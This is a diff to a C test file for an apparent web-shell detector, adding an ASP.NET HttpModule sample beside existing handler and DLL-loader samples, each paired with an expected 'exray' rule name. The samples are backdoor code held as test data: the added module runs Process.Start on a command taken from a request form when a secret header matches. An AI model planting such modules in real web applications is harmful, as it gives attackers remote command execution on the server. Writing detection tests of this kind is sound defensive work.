@@ -234,6 +234,11 @@ static void test_written_variants(void **st)
         {"<%@ WebHandler Language=\"C#\" Class=\"H\" %> public class H : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) {"
          " var t = System.Type.GetType(c.Request.Form[\"t\"]); t.GetMethod(c.Request.Form[\"m\"]).Invoke(System.Activator.CreateInstance(t), null); } }",
          "exray_loader_reflection_from_request"},
+        /* an App_Code module reaching the request through its own context variable */
+        {"public class M : System.Web.IHttpModule { public void Init(System.Web.HttpApplication app) { app.BeginRequest += (s, e) => {"
+         " var ctx = ((System.Web.HttpApplication)s).Context; if (ctx.Request.Headers[\"X-K\"] == \"k\")"
+         " System.Diagnostics.Process.Start(ctx.Request.Form[\"f\"], ctx.Request.Form[\"a\"]); }; } public void Dispose() { } }",
+         "exray_exec_request_direct"},
         /* a class of an installed DLL handed the page through Equals(Context) */
         {"<%@ Page Language=\"C#\" %><% System.Reflection.Assembly.LoadFile(Server.MapPath(\"~/bin/x.dll\")).CreateInstance(\"X\").Equals(Context); %>",
          "exray_loader_instance_handed_context"},
